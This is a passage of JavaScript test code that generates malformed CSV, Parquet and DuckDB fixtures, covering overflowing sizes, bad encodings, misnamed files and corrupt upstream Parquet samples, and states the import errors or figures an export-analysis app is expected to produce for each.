			instances: `CREATE OR REPLACE VIEW instances AS SELECT * FROM gone`,
			drop: `DROP TABLE gone`
		});
		add({ name: 'view-over-missing-table', what: 'instances is a view over a table that is not in the file.', files: ['export.duckdb'], expect: { error: 'The view instances in export\\.duckdb cannot be read: it refers to a table or column that is not in the file', code: 'broken-view' } });
	}
	{
		const t = std(10);
		await duckdbCase('view-with-missing-column', {
			objects: t.objects,
			base: `CREATE OR REPLACE TABLE base AS SELECT 1 AS instanceId, 'o1' AS objectId, 10 AS size`,
			instances: `CREATE OR REPLACE VIEW instances AS SELECT instanceId, objectId, size FROM base`,
			alter: `ALTER TABLE base DROP COLUMN size`
		});
		add({ name: 'view-with-missing-column', what: 'instances is a view over a column dropped since.', files: ['export.duckdb'], expect: { error: 'instances', code: 'broken-view' } });
	}
	{
		await duckdbCase('duckdb-no-tables', { nothing: `CREATE OR REPLACE SEQUENCE s` });
		add({ name: 'duckdb-no-tables', what: 'A valid .duckdb holding no tables.', files: ['export.duckdb'], expect: { error: 'This export holds no tables', code: 'missing-table' } });
	}
	{
		await duckdbCase('duckdb-other-schema', { schema: 'CREATE SCHEMA aparavi', ...Object.fromEntries(Object.entries(standardTables(plainExport(6))).map(([k, sql]) => [k, sql.replace(`TABLE "${k}"`, `TABLE aparavi."${k}"`)])) });
		add({ name: 'duckdb-other-schema', what: 'The tables in a schema "aparavi", not "main".', files: ['export.duckdb'], expect: { kpis: { files: 6, bytes: 2100, folders: 2 } } });
	}
	{
		// Encrypted with DuckDB's own encryption (the unsafe built-in crypto is fine for a test file).
		const d = dir('duckdb-encrypted');
		await conn.run(`SET force_mbedtls_unsafe = 'true'`);
		await conn.run(`ATTACH ${lit(join(d, 'export.duckdb'))} AS enc (ENCRYPTION_KEY 'secret')`);
		await conn.run(`CREATE TABLE enc.objects AS SELECT 'o1' AS objectId`);
		await conn.run(`DETACH enc`);
		add({ name: 'duckdb-encrypted', what: 'A .duckdb encrypted with a key.', files: ['export.duckdb'], expect: { error: 'export\\.duckdb is an encrypted DuckDB database', code: 'encrypted' } });
	}

	// ---- A write-ahead log beside its database ---------------------------------------------------
	{
		// 40 files checkpointed into the file, 60 more only in its .wal: copied while the database is open.
		const d = dir('duckdb-with-wal');
		const live = join(d, 'live.duckdb');
		await conn.run(`PRAGMA disable_checkpoint_on_shutdown`);
		await conn.run(`SET checkpoint_threshold = '10GB'`);
		await conn.run(`ATTACH ${lit(live)} AS w (STORAGE_VERSION 'v1.0.0')`);
		await conn.run(`CREATE TABLE w.objects AS SELECT 'o' || i AS objectId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, i AS primarySize FROM range(40) t(i)`);
		await conn.run(`CHECKPOINT w`);
		await conn.run(`INSERT INTO w.objects SELECT 'o' || i, 'idxobject', 'f' || i || '.txt', i FROM range(40, 100) t(i)`);
		copyFileSync(live, join(d, 'export.duckdb'));
		copyFileSync(`${live}.wal`, join(d, 'export.duckdb.wal'));
		await conn.run(`DETACH w`);
		await conn.run(`SET checkpoint_threshold = '16MB'`);
		await conn.run(`PRAGMA enable_checkpoint_on_shutdown`);
		rmSync(live, { force: true });
		rmSync(`${live}.wal`, { force: true });
		for (const other of ['duckdb-without-its-wal', 'wal-alone', 'wal-of-another-database']) mkdirSync(join(root, other), { recursive: true });
		copyFileSync(join(d, 'export.duckdb'), join(root, 'duckdb-without-its-wal', 'export.duckdb'));
		copyFileSync(join(d, 'export.duckdb.wal'), join(root, 'wal-alone', 'export.duckdb.wal'));
		copyFileSync(join(d, 'export.duckdb'), join(root, 'wal-of-another-database', 'export.duckdb'));
		copyFileSync(join(d, 'export.duckdb.wal'), join(root, 'wal-of-another-database', 'older.duckdb.wal'));
		// Sizes 0..99: 4,950 bytes in all; 0..39 (780 bytes) in the file alone.
		add({ name: 'duckdb-with-wal', what: 'A .duckdb dropped with its .wal (60 of its 100 files only in the WAL).', files: ['export.duckdb', 'export.duckdb.wal'], expect: { kpis: { files: 100, bytes: 4950 }, note: 'export\\.duckdb\\.wal was read with export\\.duckdb' } });
		add({ name: 'duckdb-without-its-wal', what: 'The same .duckdb without its .wal: only what was checkpointed (a .wal that was never given cannot be known).', files: ['export.duckdb'], expect: { kpis: { files: 40, bytes: 780 } } });
		add({ name: 'wal-alone', what: 'A .wal file dropped without its database.', files: ['export.duckdb.wal'], expect: { error: "export\\.duckdb\\.wal is DuckDB's write-ahead log, not an export", code: 'unsupported-file' } });
		add({ name: 'wal-of-another-database', what: 'A .duckdb with the .wal of another database.', files: ['export.duckdb', 'older.duckdb.wal'], expect: { kpis: { files: 40, bytes: 780 }, note: 'older\\.duckdb\\.wal was not used' } });
	}

	// ---- Sizes that overflow a 64-bit sum, and other absurd sizes ----------------------------------
	{
		const { objects, instances, parentPaths } = plainExport(5);
		instances.forEach((r, i) => (r[2] = i < 3 ? 9223372036854775807n : 100 * (i + 1)));
		add({
			name: 'size-int64-max',
			what: 'Three sizes of 2^63 − 1 (their sum overflows INT64) among five files.',
			files: await exportCase('size-int64-max', standardTables({ objects, instances, parentPaths })),
			expect: { kpis: { files: 5, bytes: 900 }, notes: { nullSize: 3, 'tooLarge:instances.size': 3 } }
		});
	}
	{
		// 9,000 files of exactly 1 PiB: each a valid size, their sum (about 1.01 × 10^19) past INT64.
		const tables = {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT 'o' || i AS objectId, 'idxobject' AS classId, 'f' || i || '.img' AS name, ${PiB}::BIGINT AS primarySize FROM range(9000) t(i)`
		};
		add({ name: 'sizes-sum-past-int64', what: '9,000 files of exactly 1 PiB: valid sizes whose sum passes INT64.', files: await exportCase('sizes-sum-past-int64', tables), expect: { kpis: { files: 9000, bytes: 9000 * PiB } } });
	}
	{
		await duckdbCase('size-types-odd', {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT * FROM (VALUES
				('o1', 'idxobject', 'a.txt', 18446744073709551615::UBIGINT),
				('o2', 'idxobject', 'b.txt', 170141183460469231731687303715884105727::HUGEINT),
				('o3', 'idxobject', 'c.txt', 100::UBIGINT),
				('o4', 'idxobject', 'd.txt', 1125899906842624::UBIGINT)) t(objectId, classId, name, primarySize)`
		});
		add({ name: 'size-types-odd', what: 'primarySize as UBIGINT/HUGEINT: 2^64 − 1, 2^127 − 1, 100, exactly 1 PiB.', files: ['export.duckdb'], expect: { kpis: { files: 4, bytes: 100 + PiB }, notes: { nullSize: 2, 'tooLarge:objects.primarySize': 2 } } });
	}
	{
		await duckdbCase('size-doubles', {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT * FROM (VALUES
				('o1', 'idxobject', 'a.txt', 1e30::DOUBLE), ('o2', 'idxobject', 'b.txt', 'nan'::DOUBLE), ('o3', 'idxobject', 'c.txt', 'inf'::DOUBLE),
				('o4', 'idxobject', 'd.txt', 1.4::DOUBLE), ('o5', 'idxobject', 'e.txt', 2048.0::DOUBLE), ('o6', 'idxobject', 'f.txt', -3.0::DOUBLE)) t(objectId, classId, name, primarySize)`
		});
		// 1.4 rounds to 1, 2048 stays: 2,049 bytes; 1e30, NaN and infinity are above any file; -3 is negative.
		add({ name: 'size-doubles', what: 'primarySize as DOUBLE: 1e30, NaN, infinity, 1.4, 2048, −3.', files: ['export.duckdb'], expect: { kpis: { files: 6, bytes: 2049 }, notes: { nullSize: 4 } } });
	}
	{
		await duckdbCase('size-decimal', {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT * FROM (VALUES ('o1', 'idxobject', 'a.txt', 10.25::DECIMAL(18,2)), ('o2', 'idxobject', 'b.txt', 99.75::DECIMAL(18,2))) t(objectId, classId, name, primarySize)`
		});
		add({ name: 'size-decimal', what: 'primarySize as DECIMAL(18,2) with fractions.', files: ['export.duckdb'], expect: { kpis: { files: 2, bytes: 110 } } });
	}

	// ---- Dirty columns: read, not refused -------------------------------------------------------
	{
		const csv = objectsCsv(6, (i) => ['100', 'n/a', '250', 'N/A', '', '50'][i]);
		const files = [write('primarysize-na-csv', 'objects.csv', csv)];
		const oracle = await nativeFigures(conn, { objects: `read_csv(${lit(join(root, 'primarysize-na-csv', 'objects.csv'))}, all_varchar = true)` });
		add({ name: 'primarysize-na-csv', what: 'objects.csv whose primarySize holds "n/a" and "N/A" cells.', files, expect: { kpis: { files: oracle.files, bytes: oracle.bytes }, notes: { 'unreadable:objects.primarySize': oracle.unreadablePrimary } } });
	}
	{
		// 30,000 rows whose last ten sizes are text: past DuckDB's 20,480-row sniffing sample.
		const csv = objectsCsv(30_000, (i) => (i >= 29_990 ? 'n/a' : String(i)));
		const files = [write('csv-late-text-size', 'objects.csv', csv)];
		const oracle = await nativeFigures(conn, { objects: `read_csv(${lit(join(root, 'csv-late-text-size', 'objects.csv'))}, all_varchar = true)` });
		add({ name: 'csv-late-text-size', what: 'objects.csv of 30,000 rows whose first non-number size comes after row 29,990 (past the sniffing sample).', files, expect: { kpis: { files: 30_000, bytes: oracle.bytes }, notes: { 'unreadable:objects.primarySize': 10 } } });
	}
	{
		const d = dir('csv-late-text-time');
		const lines = ['instanceId,objectId,size,modifyTime'];
		for (let i = 0; i < 25_000; i++) lines.push(`${i},o${i},10,${i >= 24_995 ? 'yesterday' : T_OLD + i * 1000}`);
		writeFileSync(join(d, 'instances.csv'), lines.join('\n') + '\n');
		writeFileSync(join(d, 'objects.csv'), objectsCsv(25_000, () => 1));
		add({ name: 'csv-late-text-time', what: 'instances.csv whose modifyTime is epoch ms for 24,995 rows, then "yesterday".', files: ['objects.csv', 'instances.csv'], expect: { kpis: { files: 25_000, bytes: 250_000, oldestModified: T_OLD }, notes: { invalidModified: 5, 'unreadable:instances.modifyTime': 5 } } });
	}
	{
		const d = dir('csv-late-text-id');
		const lines = ['instanceId,objectId,size,modifyTime'];
		for (let i = 0; i < 25_000; i++) lines.push(`${i === 24_000 ? 'x24000' : i},o${i},${i % 7},${T_NEW}`);
		writeFileSync(join(d, 'instances.csv'), lines.join('\n') + '\n');
		writeFileSync(join(d, 'objects.csv'), objectsCsv(25_000, () => 999));
		const oracle = await nativeFigures(conn, { objects: `read_csv(${lit(join(d, 'objects.csv'))}, all_varchar = true)`, instances: `read_csv(${lit(join(d, 'instances.csv'))}, all_varchar = true)` });
		add({ name: 'csv-late-text-id', what: 'instances.csv whose instanceId is a number except "x24000", late in the file.', files: ['objects.csv', 'instances.csv'], expect: { kpis: { files: 25_000, bytes: oracle.bytes, newestModified: T_NEW } } });
	}
	{
		// objectIds are numbers in objects.csv except one ("x30", so the column is text) and numbers in
		// instances.csv (x30 has no instance): the two are compared as text.
		const d = dir('one-non-numeric-objectid');
		const obj = ['objectId,parentId,classId,name,primarySize'];
		const inst = ['instanceId,objectId,size,modifyTime'];
		for (let i = 1; i <= 30; i++) {
			const id = i === 30 ? 'x30' : String(i);
			obj.push(`${id},1,idxobject,f${i}.txt,1`);
			if (i < 30) inst.push(`${i},${id},${i * 10},${T_OLD}`);
		}
		writeFileSync(join(d, 'objects.csv'), obj.join('\n') + '\n');
		writeFileSync(join(d, 'instances.csv'), inst.join('\n') + '\n');
		writeFileSync(join(d, 'parentPaths.csv'), 'parentId,parentPath\n1,File System/D:/ids/\n');
		// 10 + 20 + ... + 290 = 4,350 from instances, and x30's primarySize of 1.
		add({ name: 'one-non-numeric-objectid', what: 'objects.csv ids are numbers except "x30"; instances.csv ids are numbers.', files: ['objects.csv', 'instances.csv', 'parentPaths.csv'], expect: { kpis: { files: 30, bytes: 4351, folders: 1 } } });
	}
	{
		// objects.objectId text, instances.objectId numbers, parentPaths.parentId numbers against text parentIds.
		const tables = {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT CAST(i AS VARCHAR) AS objectId, CAST(i % 2 AS VARCHAR) AS parentId, 'idxobject' AS classId, 'f' || i || '.txt' AS name FROM range(1, 11) t(i)`,
			instances: `CREATE OR REPLACE TABLE instances AS SELECT i AS instanceId, i AS objectId, i * 100 AS size, ${T_OLD} AS modifyTime FROM range(1, 11) t(i)`,
			parentPaths: `CREATE OR REPLACE TABLE parentPaths AS SELECT i AS parentId, 'File System/D:/m' || i || '/' AS parentPath FROM range(2) t(i)`
		};
		add({ name: 'mixed-id-types', what: 'objects.objectId text, instances.objectId BIGINT, parentPaths.parentId BIGINT (Parquet).', files: await exportCase('mixed-id-types', tables), expect: { kpis: { files: 10, bytes: 5500, folders: 2 } } });
	}
	{
		const tables = {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT 'o' || i AS objectId, CAST(1 + i % 2 AS INTEGER) AS classId, 'f' || i || '.txt' AS name, 10 AS primarySize FROM range(8) t(i)`
		};
		add({ name: 'integer-classid', what: 'objects.classId as INTEGER (1, 2) instead of class names.', files: await exportCase('integer-classid', tables), expect: { kpis: { files: 8, bytes: 80 }, note: 'objects\\.classId holds numbers' } });
	}
	{
		const { objects, parentPaths } = plainExport(6);
		const times = [String(T_OLD), String(T_NEW), String(T_OLD + DAY), 'n/a', '', String(T_NEW - DAY)];
		const inst = objects.map((o, i) => [i + 1, o[0], 10, times[i]]);
		const tables = {
			objects: tableSql('objects', ['objectId', 'parentId', 'classId', 'name'], objects.map((r) => r.slice(0, 4))),
			instances: tableSql('instances', ['instanceId', 'objectId', 'size', 'modifyTime'], inst, { instanceId: 'BIGINT', size: 'BIGINT', modifyTime: 'VARCHAR' }),
			parentPaths: tableSql('parentPaths', ['parentId', 'parentPath'], parentPaths)
		};
		add({ name: 'epoch-times-as-text', what: 'modifyTime as text holding epoch milliseconds, one "n/a" and one empty.', files: await exportCase('epoch-times-as-text', tables), expect: { kpis: { files: 6, oldestModified: T_OLD, newestModified: T_NEW }, notes: { invalidModified: 2, 'unreadable:instances.modifyTime': 1 } } });
	}
	{
		await duckdbCase('time-column-types', {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT 'o' || i AS objectId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, 5 AS primarySize, DATE '2021-03-01' + CAST(i AS INTEGER) AS createdAt FROM range(3) t(i)`,
			instances: `CREATE OR REPLACE TABLE instances AS SELECT i AS instanceId, 'o' || i AS objectId, 5 AS size, TIME '12:00:00' AS modifyTime, TIMESTAMPTZ '2022-06-01 10:00:00+00' AS createTime, '\\x01\\x02'::BLOB AS accessTime FROM range(3) t(i)`
		});
		add({ name: 'time-column-types', what: 'modifyTime as TIME, createTime as TIMESTAMPTZ, accessTime as BLOB, createdAt as DATE.', files: ['export.duckdb'], expect: { kpis: { files: 3, bytes: 15, oldestModified: null }, notes: { invalidModified: 3, 'unreadable:instances.modifyTime': 3 } } });
	}
	{
		await duckdbCase('wrong-column-types', {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT i AS objectId, i % 2 AS parentId, 'idxobject' AS classId, i * 1000 AS name, i % 2 = 0 AS extension, {'a': i} AS tags, [i, i] AS primarySize FROM range(4) t(i)`,
			instances: `CREATE OR REPLACE TABLE instances AS SELECT i AS instanceId, i AS objectId, [i] AS size, ${T_OLD}::DOUBLE AS modifyTime FROM range(4) t(i)`,
			parentPaths: `CREATE OR REPLACE TABLE parentPaths AS SELECT i AS parentId, 1000 + i AS parentPath FROM range(2) t(i)`
		});
		add({ name: 'wrong-column-types', what: 'name INTEGER, extension BOOLEAN, tags STRUCT, sizes as lists, parentPath INTEGER, modifyTime DOUBLE.', files: ['export.duckdb'], expect: { kpis: { files: 4, bytes: 0, oldestModified: T_OLD }, notes: { nullSize: 4, 'unreadable:instances.size': 4 } } });
	}
	{
		await duckdbCase('all-null-columns', {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT NULL::VARCHAR AS objectId, NULL::VARCHAR AS parentId, 'idxobject' AS classId, NULL::VARCHAR AS name, NULL::BIGINT AS primarySize FROM range(5)`,
			instances: `CREATE OR REPLACE TABLE instances AS SELECT NULL::BIGINT AS instanceId, NULL::VARCHAR AS objectId, NULL::BIGINT AS size, NULL::BIGINT AS modifyTime FROM range(5)`
		});
		add({ name: 'all-null-columns', what: 'Every id, name, size and time NULL (5 rows).', files: ['export.duckdb'], expect: { kpis: { files: 5, bytes: 0 }, notes: { nullSize: 5, invalidModified: 5 } } });
	}
	{
		const csv = objectsCsv(5, (i) => ['"1,024"', '10 KB', '2048', '0x10', '1e3'][i]);
		const files = [write('sizes-with-units-csv', 'objects.csv', csv)];
		const oracle = await nativeFigures(conn, { objects: `read_csv(${lit(join(root, 'sizes-with-units-csv', 'objects.csv'))}, all_varchar = true)` });
		add({ name: 'sizes-with-units-csv', what: 'primarySize text such as "1,024", "10 KB", "0x10", "1e3".', files, expect: { kpis: { files: 5, bytes: oracle.bytes }, notes: { 'unreadable:objects.primarySize': oracle.unreadablePrimary } } });
	}
	{
		const { objects, instances, parentPaths } = plainExport(4);
		instances.forEach((r, i) => (r[6] = ['n/a', '0', '', 'yes'][i]));
		const tables = { ...standardTables({ objects, parentPaths }), instances: tableSql('instances', INSTANCE_COLS, instances, { ...INSTANCE_TYPES, deletedAt: 'VARCHAR' }) };
		// A deletedAt that is not a number is not a deletion: every instance is current (sizes 100..400).
		add({ name: 'deletedat-text', what: "instances.deletedAt as text: 'n/a', '0', '', 'yes'.", files: await exportCase('deletedat-text', tables), expect: { kpis: { files: 4, bytes: 1000 } } });
	}

	// ---- CSV shapes -------------------------------------------------------------------------------
	add({ name: 'csv-cr-line-endings', what: 'objects.csv with old Mac line endings (CR only).', files: [write('csv-cr-line-endings', 'objects.csv', objectsCsv(4, (i) => i + 1, { eol: '\r' }))], expect: { kpis: { files: 4, bytes: 10 } } });
	add({ name: 'csv-tabs', what: 'objects.csv separated by tabs.', files: [write('csv-tabs', 'objects.csv', objectsCsv(4, (i) => i + 1, { sep: '\t' }))], expect: { kpis: { files: 4, bytes: 10 } } });
	add({ name: 'csv-blank-lines', what: 'objects.csv with blank lines between rows.', files: [write('csv-blank-lines', 'objects.csv', objectsCsv(4, (i) => i + 1).replace(/\n/g, '\n\n'))], expect: { kpis: { files: 4, bytes: 10 } } });
	add({
		name: 'csv-ragged-rows',
		what: 'objects.csv where 2 of 6 rows have too few fields and 1 too many.',
		files: [write('csv-ragged-rows', 'objects.csv', 'objectId,parentId,classId,name,primarySize\no1,p1,idxobject,a.txt,1\no2,p1,idxobject\no3,p1,idxobject,c.txt,3,extra,more\no4,p1,idxobject,d.txt\no5,p1,idxobject,e.txt,5\no6,p1,idxobject,f.txt,6\n')],
		expect: { kpis: { files: 6 }, note: 'objects\\.csv is not strictly valid CSV' }
	});
	add({ name: 'csv-long-field', what: 'objects.csv with a 3 MB file name (past DuckDB\'s 2 MB line limit).', files: [write('csv-long-field', 'objects.csv', `objectId,parentId,classId,name,primarySize\no1,p1,idxobject,${'n'.repeat(3_000_000)}.txt,1\no2,p1,idxobject,b.txt,2\n`)], expect: { kpis: { files: 2, bytes: 3 }, note: 'objects\\.csv is not strictly valid CSV' } });
	add({ name: 'csv-nul-bytes', what: 'objects.csv with NUL bytes inside two names.', files: [write('csv-nul-bytes', 'objects.csv', 'objectId,parentId,classId,name,primarySize\no1,p1,idxobject,a\u0000b.txt,1\no2,p1,idxobject,c\u0000.txt,2\no3,p1,idxobject,d.txt,3\n')], expect: { kpis: { files: 3, bytes: 6 } } });
	add({ name: 'csv-duplicate-columns', what: 'objects.csv naming primarySize twice.', files: [write('csv-duplicate-columns', 'objects.csv', 'objectId,classId,name,primarySize,primarySize\no1,idxobject,a.txt,1,100\no2,idxobject,b.txt,2,200\n')], expect: { kpis: { files: 2 } } });
	{
		const d = dir('csv-parts-different-headers');
		mkdirSync(join(d, 'objects'), { recursive: true });
		writeFileSync(join(d, 'objects', 'part-0.csv'), 'objectId,classId,name,primarySize\no1,idxobject,a.txt,10\no2,idxobject,b.txt,20\n');
		writeFileSync(join(d, 'objects', 'part-1.csv'), 'objectId,name,primarySize,classId,extra\no3,c.txt,30,idxobject,x\n');
		add({ name: 'csv-parts-different-headers', what: 'A folder objects/ of two CSV parts whose headers differ (order, an extra column).', folder: 'objects', expect: { kpis: { files: 3, bytes: 60 } } });
	}

	// ---- Encodings ------------------------------------------------------------------------------
	{
		const text = objectsCsv(3, (i) => (i + 1) * 10).replace('f1.txt', 'Bücher-€.txt');
		const utf16le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
		const utf16be = Buffer.from([0xfe, 0xff, ...Buffer.from(text, 'utf16le').swap16()]);
		add({ name: 'utf16le-bom', what: 'objects.csv in UTF-16 little-endian with a BOM (PowerShell, Excel "Unicode text").', files: [write('utf16le-bom', 'objects.csv', utf16le)], expect: { kpis: { files: 3, bytes: 60 }, note: 'objects\\.csv is UTF-16 text' } });
		add({ name: 'utf16be-bom', what: 'objects.csv in UTF-16 big-endian with a BOM.', files: [write('utf16be-bom', 'objects.csv', utf16be)], expect: { kpis: { files: 3, bytes: 60 }, note: 'objects\\.csv is UTF-16 text' } });
		add({ name: 'utf16le-no-bom', what: 'objects.csv in UTF-16 little-endian without a BOM (NUL-interleaved).', files: [write('utf16le-no-bom', 'objects.csv', Buffer.from(text, 'utf16le'))], expect: { kpis: { files: 3, bytes: 60 }, note: 'objects\\.csv is UTF-16 text' } });
		add({ name: 'utf8-bom', what: 'objects.csv in UTF-8 with a BOM.', files: [write('utf8-bom', 'objects.csv', '\ufeff' + text)], expect: { kpis: { files: 3, bytes: 60 } } });
		const latin1 = Buffer.from(objectsCsv(4, () => 5).replace('f2.txt', 'caf\u00e9.txt').replace('f3.txt', 'na\u00efve.txt'), 'latin1');
		add({ name: 'invalid-utf8', what: 'objects.csv in Latin-1 (names with é and ï: invalid UTF-8).', files: [write('invalid-utf8', 'objects.csv', latin1)], expect: { kpis: { files: 4, bytes: 20 }, note: 'objects\\.csv is not valid UTF-8 text \\(from line 4 on, 2 characters' } });
	}

	// ---- Bytes of other kinds under a CSV, Parquet or DuckDB name --------------------------------
	{
		const csv = objectsCsv(3, () => 1);
		const parquetDir = dir('parquet-as-csv');
		await conn.run(`COPY (SELECT 'o1' AS objectId) TO ${lit(join(parquetDir, 'objects.csv'))} (FORMAT parquet)`);
		const kinds = [
			['jpeg-as-csv', 'objects.csv', JPEG, 'objects\\.csv is a JPEG image, not a CSV file'],
			['png-as-csv', 'objects.csv', PNG, 'objects\\.csv is a PNG image, not a CSV file'],
			['gzip-as-csv', 'objects.csv', gzipSync(csv), 'objects\\.csv is a gzip archive, not a CSV file'],
			['zip-as-csv', 'objects.csv', zipOf('objects.csv', csv), 'objects\\.csv is a ZIP archive, not a CSV file'],
			['xlsx-as-csv', 'objects.csv', zipOf('xl/workbook.xml', '<workbook/>'), 'objects\\.csv is an Excel workbook \\(\\.xlsx\\), not a CSV file'],
			['pdf-as-csv', 'objects.csv', PDF, 'objects\\.csv is a PDF document, not a CSV file'],
			['random-bytes-as-csv', 'objects.csv', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)), 'objects\\.csv is not a text file'],
			['gzip-as-parquet', 'objects.parquet', gzipSync(csv), 'objects\\.parquet is a gzip archive, not a Parquet file'],
			['zip-as-parquet', 'objects.parquet', zipOf('objects.parquet', 'PAR1'), 'objects\\.parquet is a ZIP archive, not a Parquet file'],
			['csv-as-parquet', 'objects.parquet', csv, 'objects\\.parquet is text \\(a CSV file\\?\\), not a Parquet file'],
			['jpeg-as-duckdb', 'export.duckdb', JPEG, 'export\\.duckdb could not be opened as a DuckDB database: it is a JPEG image'],
			['gzip-as-duckdb', 'export.duckdb', gzipSync(Buffer.alloc(20_000, 7)), 'export\\.duckdb could not be opened as a DuckDB database: it is a gzip archive']
		];
		for (const [name, file, bytes, error] of kinds) {
			add({ name, what: `${kindName(name)} named ${file}.`, files: [write(name, file, bytes)], expect: { error, code: name === 'random-bytes-as-csv' ? 'wrong-format' : 'wrong-format' } });
		}
		add({ name: 'parquet-as-csv', what: 'A Parquet file named objects.csv.', files: ['objects.csv'], expect: { error: 'objects\\.csv is a Parquet file, not a CSV file', code: 'wrong-format' } });
		add({ name: 'html-as-csv', what: 'A saved web page named objects.csv.', files: [write('html-as-csv', 'objects.csv', '<!DOCTYPE html>\n<html><head><title>Export</title></head><body><p>Your export is ready.</p></body></html>\n')], expect: { error: 'objects table has no objectId column|objects\\.csv', code: 'missing-column' } });
	}

	// ---- Parquet parts that do not agree -----------------------------------------------------------
	{
		const d = dir('parquet-parts-different-columns');
		mkdirSync(join(d, 'objects'), { recursive: true });
		await conn.run(`COPY (SELECT 'o' || i AS objectId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, 'txt' AS extension, i AS primarySize FROM range(5) t(i)) TO ${lit(join(d, 'objects', 'part-0.parquet'))} (FORMAT parquet)`);
		await conn.run(`COPY (SELECT 'o' || i AS objectId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, 'txt' AS extension, i AS primarySize FROM range(5, 10) t(i)) TO ${lit(join(d, 'objects', 'part-1.parquet'))} (FORMAT parquet)`);
		await conn.run(`COPY (SELECT 'o' || i AS objectId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, i AS primarySize FROM range(10, 15) t(i)) TO ${lit(join(d, 'objects', 'part-2.parquet'))} (FORMAT parquet)`);
		add({ name: 'parquet-parts-different-columns', what: 'A folder objects/ of three Parquet parts; part-2 lacks the extension column.', folder: 'objects', expect: { error: 'objects/part-2\\.parquet does not have the same columns as the other parts of objects .*it lacks extension', code: 'mismatched-parts' } });
	}
	{
		const d = dir('parquet-parts-different-types');
		mkdirSync(join(d, 'objects'), { recursive: true });
		await conn.run(`COPY (SELECT 'o' || i AS objectId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, i AS primarySize FROM range(5) t(i)) TO ${lit(join(d, 'objects', 'part-0.parquet'))} (FORMAT parquet)`);
		await conn.run(`COPY (SELECT 'o' || i AS objectId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, CAST(i AS VARCHAR) AS primarySize FROM range(5, 10) t(i)) TO ${lit(join(d, 'objects', 'part-1.parquet'))} (FORMAT parquet)`);
		add({ name: 'parquet-parts-different-types', what: 'A folder objects/ of two Parquet parts; primarySize is a number in one, text in the other.', folder: 'objects', expect: { error: 'objects/part-1\\.parquet does not have the same columns .*primarySize is text there, a number in the others', code: 'mismatched-parts' } });
	}

	// ---- Real Parquet files from apache/parquet-testing ----------------------------------------------
	for (const t of PARQUET_TESTING_CASES) {
		const name = `pt-${t.file.replace(/^bad_data\//, 'bad-').replace(/\.parquet(\.encrypted)?$/, '').replace(/[^A-Za-z0-9-]/g, '-').toLowerCase()}`;
		const d = dir(name);
		const given = t.file.replace(/^bad_data\//, '').replace(/\.encrypted$/, '');
		copyFileSync(join(PARQUET_TESTING, t.file), join(d, given));
		let expect;
		if (t.error) expect = { error: `${given.replace(/[.]/g, '\\.')}`, codes: t.codes ?? ['corrupt-file', 'unsupported-file', 'truncated'], ...(t.readable ? { orMapping: true } : {}) };
		else {
			// The columns the mapping dialog offers: the file's top-level columns as native DuckDB reads them.
			const columns = (await conn.runAndReadAll(`DESCRIBE SELECT * FROM read_parquet(${lit(join(d, given))})`).catch(() => null))?.getRowObjectsJS().map((r) => String(r.column_name));
			expect = { mapping: columns ? { columns } : {} };
		}
		add({ name, what: `parquet-testing ${t.file}: ${t.what}`, files: [given], expect });
	}
}

/** "jpeg-as-csv" → "A JPEG image". */
function kindName(caseName) {
	const kind = caseName.split('-as-')[0];
	return (
		{ jpeg: 'A JPEG image', png: 'A PNG image', gzip: 'A gzip archive', zip: 'A ZIP archive', xlsx: 'An Excel workbook (.xlsx)', pdf: 'A PDF document', 'random-bytes': 'Random bytes', csv: 'CSV text' }[kind] ?? kind
	);
}

/**
 * The parquet-testing files dropped on the app (tests/fixtures/parquet-testing), what each
 * exercises, and whether the app must refuse it (a message naming the file) rather than read it
 * (the mapping dialog: the file is a table of its own, not an Aparavi export).
 */
const PARQUET_TESTING_CASES = [
	{ file: 'alltypes_plain.parquet', what: 'every primitive type, uncompressed, plain encoding.' },
	{ file: 'alltypes_plain.snappy.parquet', what: 'every primitive type, snappy compression.' },
	{ file: 'alltypes_dictionary.parquet', what: 'every primitive type, dictionary encoding.' },
	{ file: 'concatenated_gzip_members.parquet', what: 'gzip compression with two concatenated gzip members in one page.' },
	{ file: 'byte_stream_split.zstd.parquet', what: 'byte-stream-split floats, zstd compression.' },
	{ file: 'byte_stream_split_extended.gzip.parquet', what: 'byte-stream-split on every type it allows (ints, decimals, float16), gzip compression.' },
	{ file: 'large_string_map.brotli.parquet', what: 'a map of strings, brotli compression; 3 KB that decompress into 2 GB (a decompression bomb).', error: true, codes: ['unsupported-file'] },
	{ file: 'hadoop_lz4_compressed.parquet', what: 'the old Hadoop LZ4 framing.' },
	{ file: 'non_hadoop_lz4_compressed.parquet', what: 'LZ4 without the Hadoop framing.' },
	{ file: 'lz4_raw_compressed.parquet', what: 'LZ4_RAW compression.' },
	{ file: 'delta_binary_packed.parquet', what: 'DELTA_BINARY_PACKED integers of every bit width.' },
	{ file: 'delta_byte_array.parquet', what: 'DELTA_BYTE_ARRAY strings.' },
	{ file: 'delta_length_byte_array.parquet', what: 'DELTA_LENGTH_BYTE_ARRAY strings.' },
	{ file: 'delta_encoding_required_column.parquet', what: 'delta encodings on required columns.' },
	{ file: 'delta_encoding_optional_column.parquet', what: 'delta encodings on optional columns.' },
	{ file: 'rle_boolean_encoding.parquet', what: 'RLE-encoded booleans.' },
	{ file: 'plain-dict-uncompressed-checksum.parquet', what: 'plain dictionary pages with CRC checksums.' },
	{ file: 'rle-dict-snappy-checksum.parquet', what: 'RLE dictionary, snappy, data page v2, CRC checksums.' },
	{ file: 'rle-dict-uncompressed-corrupt-checksum.parquet', what: 'RLE dictionary whose page CRCs do not match.' },
	{ file: 'datapage_v1-corrupt-checksum.parquet', what: 'v1 data pages whose CRC does not match.' },
